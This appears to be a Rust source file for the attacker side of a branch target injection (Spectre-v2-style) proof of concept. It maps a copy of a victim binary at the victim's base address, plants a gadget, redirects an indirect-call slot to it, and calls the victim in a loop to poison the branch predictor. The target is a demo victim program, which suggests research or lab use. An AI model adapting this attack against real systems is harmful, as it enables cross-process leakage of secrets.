use std::path::PathBuf;
use clap::Parser;

use bti::*;

/// Train the branch predictor so that the victim's indirect call is
/// speculatively redirected to its gadget.
///
/// All offsets are hexadecimal and relative to the image base. Start the
/// victim first under `setarch -R`: it prints the offsets to use.
///
/// Do not disable ASLR for the attacker itself. A PIE attacker without
/// ASLR is loaded at the default base too, and mapping the copy there
/// would replace its own code. This is detected and reported.
#[derive(Parser)]
#[command(verbatim_doc_comment)]
pub struct Args {
    /// Offset of the gadget
    #[arg(value_parser = parse_hex)]
    gadget: usize,

    /// Offset of the victim function
    #[arg(value_parser = parse_hex)]
    victim: usize,

    /// Offset of the indirect call's target slot
    #[arg(value_parser = parse_hex)]
    target: usize,

    /// The victim's executable
    #[arg(long, default_value = "./bti-victim")]
    binary: PathBuf,

    /// Address to map the image at
    #[arg(long, value_parser = parse_hex, default_value = "0x555555554000")]
    base: usize,

    /// Number of bytes to map [default: the span of the loadable segments]
    #[arg(long, value_parser = parse_hex)]
    size: Option<usize>,

    /// Gadget to plant at the gadget offset
    #[arg(long, value_enum, default_value_t = Gadget::Ret)]
    plant: Gadget,

    /// Pin to this core
    #[arg(long)]
    core: Option<usize>,

    /// Print the copied victim code before starting
    #[arg(long)]
    disas: bool,
}

fn run(args: Args) -> Result<(), Box<dyn std::error::Error>> {
    if let Some(core) = args.core {
        Env::pin_to_core(core)?;
    }

    let mut mapper = NixMapper::new();
    let mut image = Image::load(&mut mapper, &args.binary, args.base, args.size)?;
    image.plant(args.gadget, args.plant)?;
    let chain = GotChain::install(&mut mapper, args.base,
        args.gadget, args.target)?;
    log::info!("target slot {:#x} resolves to {:#x?}",
        chain.slot_addr(), chain.resolve());

    if args.disas {
        for line in image.disas(args.victim, 24)? {
            println!("{}", line);
        }
    }

    let victim = unsafe { image.entry(args.victim)? };
    println!("[*] victim {:#x} - gadget {:#x} - target {:#x}",
        args.victim, args.gadget, args.target);

    let dummy = 0u8;
    loop {
        victim(&dummy, 0);
    }
}

fn main() {
    env_logger::init();
    let args = Args::parse();
    if let Err(e) = run(args) {
        eprintln!("[!] {}", e);
        std::process::exit(1);
    }
}
